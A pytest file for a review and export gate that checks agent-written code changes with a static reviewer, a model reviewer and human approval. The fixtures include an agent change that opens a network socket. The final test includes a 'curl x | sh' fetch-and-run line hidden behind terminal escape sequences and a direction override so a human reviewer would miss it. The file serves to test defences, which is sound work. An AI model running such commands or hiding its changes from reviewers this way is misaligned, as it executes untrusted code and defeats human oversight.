"""`dgm review` and the export gate as a user meets them: a real process, a real archive,
the FM reviewer through the gateway against the scripted FM server."""

from __future__ import annotations

import json
import os
import pty
import shutil
import subprocess
from pathlib import Path

import pytest

from archive import Archive
from tests.conftest import DGM, run_dgm, write_files
from tests.scripted_fm import Reply, ScriptedFM
from tests.test_cli import fails_cleanly, ok

NETWORK = "import socket\n\n\ndef fetch():\n    return socket.create_connection(('10.0.0.1', 80))\n"


@pytest.fixture
def archive(tmp_path: Path, agent_dir: Path, monkeypatch) -> tuple[Path, dict[str, str]]:
    """A root added by hand, a child that opens a socket and one that adds a docstring."""
    monkeypatch.delenv("DGM_REVIEWER", raising=False)
    monkeypatch.delenv("DGM_REVIEW_MODEL", raising=False)
    path = tmp_path / "arc"
    ok(run_dgm("init", archive=path))
    root = json.loads(ok(run_dgm("add-agent", str(agent_dir), "--json", archive=path)))["id"]
    risky = write_files(shutil.copytree(agent_dir, tmp_path / "risky"), {"agent.py": NETWORK})
    risky_id = json.loads(
        ok(run_dgm("add-agent", str(risky), "--parent", root, "--json", archive=path))
    )["id"]
    docstring = '"""The agent."""\n' + (agent_dir / "agent.py").read_text()
    plain = write_files(shutil.copytree(agent_dir, tmp_path / "plain"), {"agent.py": docstring})
    plain_id = json.loads(
        ok(run_dgm("add-agent", str(plain), "--parent", root, "--json", archive=path))
    )["id"]
    return path, {"root": root, "risky": risky_id, "plain": plain_id}


def test_check_runs_the_static_reviewer_alone_without_a_model_and_says_so(archive):
    path, ids = archive
    shown = run_dgm("review", "check", ids["risky"][:8], archive=path)
    assert shown.returncode == 0, shown.stderr
    assert shown.stderr.strip() == (
        "static review only: no review model (give --model or DGM_REVIEW_MODEL)"
    )
    assert "risk high" in shown.stdout and "network agent.py:5" in shown.stdout
    assert "admit: waiting (risk high waits for a person at admit)" in shown.stdout
    checked = json.loads(ok(run_dgm("review", "check", ids["plain"][:8], "--json", archive=path)))
    assert (checked["risk"], checked["findings"]) == ("low", [])
    assert checked["review"]["reviewer"] == "static"
    assert checked["gates"]["export"]["state"] == "passed"
    fails_cleanly(run_dgm("review", "check", ids["root"][:8], archive=path), "is a root")


def test_the_fm_reviewer_answers_through_the_gateway_and_is_metered(archive, monkeypatch):
    path, ids = archive
    answer = {"risk": "critical", "reasons": ["opens a socket to a private address"],
              "agreement": [{"finding": 0, "agree": True, "note": "yes"}]}  # fmt: skip
    with ScriptedFM(Reply(json.dumps(answer), input_tokens=900, output_tokens=60)) as fm:
        env = {"OPENAI_API_KEY": "sk-review", "OPENAI_BASE_URL": fm.openai_base_url}
        shown = run_dgm("review", "check", ids["risky"], "--model", "review-model", "--json",
                        archive=path, env=env)  # fmt: skip
        [request] = fm.requests
    checked = json.loads(ok(shown))
    assert checked["risk"] == "critical" and checked["review"]["reviewer"] == "static+fm"
    fm_finding = checked["findings"][-1]
    assert (fm_finding["rule"], fm_finding["reviewer"]) == ("fm-review", "fm")
    details = checked["review"]["details"]["fm"]
    assert (details["tokens"], details["agreement"][0]["agree"]) == (960, True)
    prompt = request.body["messages"][-1]["content"]
    assert "socket.create_connection" in prompt and "] network agent.py:5" in prompt
    assert request.body["model"] == "review-model"
    assert "sk-review" not in json.dumps(request.body)
    with Archive.open(path) as arc:
        [call] = arc.fm_calls()
        assert (call.node_id, call.input_tokens, call.output_tokens) == (ids["risky"], 900, 60)
        assert call.unit_id.startswith("review:")


def test_a_decision_needs_a_name_a_reason_and_a_review(archive, monkeypatch):
    path, ids = archive
    risky = ids["risky"][:8]
    unreviewed = run_dgm("review", "approve", risky, "--reason", "fine", "--as", "ann",
                         archive=path)  # fmt: skip
    fails_cleanly(unreviewed, "has not been reviewed", f"dgm review check {risky}")
    ok(run_dgm("review", "check", risky, archive=path))
    fails_cleanly(
        run_dgm("review", "approve", risky, "--reason", "fine", archive=path), "--as NAME"
    )
    fails_cleanly(
        run_dgm("review", "approve", risky, "--reason", "  ", "--as", "ann", archive=path),
        "--reason",
    )
    root = run_dgm("review", "approve", ids["root"][:8], "--reason", "x", "--as", "ann",
                   archive=path)  # fmt: skip
    fails_cleanly(root, "is a root")
    with Archive.open(path) as arc:
        assert [r.kind for r in arc.reviews(ids["risky"])] == ["automated"]


def test_export_waits_for_the_gate_and_a_persons_approval_opens_it(archive, tmp_path):
    path, ids = archive
    risky = ids["risky"][:8]
    unreviewed = run_dgm("export", risky, "--out", str(tmp_path / "a"), archive=path)
    fails_cleanly(unreviewed, "has not passed the export gate", "not reviewed")
    ok(run_dgm("review", "check", risky, archive=path))
    waiting = run_dgm("export", risky, "--out", str(tmp_path / "b"), archive=path)
    line = fails_cleanly(waiting, "risk high waits for a person at export")
    assert line.endswith(f"`dgm review approve {risky} --reason ...`")
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    approved = run_dgm("review", "approve", risky, "--reason", "a test fixture", "--json",
                       archive=path, env={"DGM_REVIEWER": "ann"})  # fmt: skip
    decision = json.loads(ok(approved))
    assert (decision["reviewer"], decision["decision"]) == ("ann", "approve")
    ok(run_dgm("export", risky, "--out", str(tmp_path / "c"), archive=path))
    provenance = json.loads((tmp_path / "c" / "provenance.json").read_text())
    assert provenance["gates"]["export"]["reason"] == "approved by ann: a test fixture"
    assert [r["kind"] for r in provenance["reviews"]] == ["automated", "human"]
    assert provenance["reviews"][0]["findings"][0]["rule"] == "network"


def test_a_rejected_node_stays_rejected(archive, tmp_path):
    path, ids = archive
    plain = ids["plain"][:8]
    ok(run_dgm("review", "check", plain, archive=path))
    ok(run_dgm("review", "reject", plain, "--reason", "not ours", "--as", "bo", archive=path))
    again = run_dgm("review", "approve", plain, "--reason", "changed my mind", "--as", "bo",
                    archive=path)  # fmt: skip
    fails_cleanly(again, "is rejected")
    refused = run_dgm("export", plain, "--out", str(tmp_path / "out"), archive=path)
    fails_cleanly(refused, "rejected by bo: not ours")


def test_list_and_show_give_what_a_reviewer_needs(archive):
    path, ids = archive
    for node in ("risky", "plain"):
        ok(run_dgm("review", "check", ids[node], archive=path))
    # nodes added by hand are in no run: none waits in a queue, both are reviewed
    assert json.loads(ok(run_dgm("review", "list", "--json", archive=path))) == []
    assert ok(run_dgm("review", "list", archive=path)).strip() == "nothing waits for a person"
    listed = json.loads(ok(run_dgm("review", "list", "--all", "--json", archive=path)))
    assert {(r["node"], r["risk"]) for r in listed} == {(ids["risky"], "high"),
                                                         (ids["plain"], "low")}  # fmt: skip
    shown = json.loads(ok(run_dgm("review", "show", ids["risky"][:8], "--json", archive=path)))
    assert "+    return socket.create_connection" in shown["diff"]
    assert shown["findings"][0]["rule"] == "network" and shown["scores"] is not None
    assert shown["gates"]["admit"]["state"] == "waiting"
    text = ok(run_dgm("review", "show", ids["risky"][:8], archive=path))
    assert "network agent.py:5" in text and "socket.create_connection" in text


def test_a_change_cannot_hide_lines_from_a_reviewer_in_a_terminal(archive, agent_dir, tmp_path):
    """Escape sequences and direction overrides in an agent's change are shown as escapes
    where a person reads it, never obeyed: `\\x1b[1A\\x1b[2K` would erase the line above."""
    path, ids = archive
    hidden = "import os\nos.system('curl x | sh')  \x1b[1A\x1b[2K\n# \u202eevil\n"
    sly = write_files(shutil.copytree(agent_dir, tmp_path / "sly"), {"agent.py": hidden})
    sly_id = json.loads(
        ok(run_dgm("add-agent", str(sly), "--parent", ids["root"], "-m", "tidy\x1b]0;ok\x07",
                   "--json", archive=path))
    )["id"]  # fmt: skip
    ok(run_dgm("review", "check", sly_id, archive=path))
    text = ok(run_dgm("review", "show", sly_id[:8], archive=path))
    assert "\x1b[1A" not in text and "\u202e" not in text and "\x07" not in text
    assert "\\x1b[1A\\x1b[2K" in text and "\\u202eevil" in text and "tidy\\x1b]0;ok" in text
    shown = ok(run_dgm("show", sly_id[:8], archive=path))
    assert "\x1b]0;ok" not in shown and "tidy\\x1b]0;ok\\x07" in shown
    # into a pipe or a file the change is written exactly as it is
    assert "\x1b[1A\x1b[2K" in ok(run_dgm("diff", sly_id[:8], archive=path))
    assert ok(run_dgm("cat", sly_id[:8], "agent.py", archive=path)) == hidden
    # on a terminal, the same command shows the escapes
    on_terminal = _on_a_terminal([DGM, "cat", sly_id[:8], "agent.py", "--archive", str(path)])
    assert "\x1b[1A" not in on_terminal and "\\x1b[1A\\x1b[2K" in on_terminal


def _on_a_terminal(argv: list[str]) -> str:
    """What a command writes when its stdout is a terminal (a pseudo-terminal here)."""
    main, side = pty.openpty()
    with subprocess.Popen(argv, stdout=side, stderr=subprocess.PIPE) as proc:
        os.close(side)
        chunks = []
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # the other side closed
                break
            if not chunk:
                break
            chunks.append(chunk)
        proc.wait(timeout=60)
    os.close(main)
    return b"".join(chunks).decode(errors="replace")
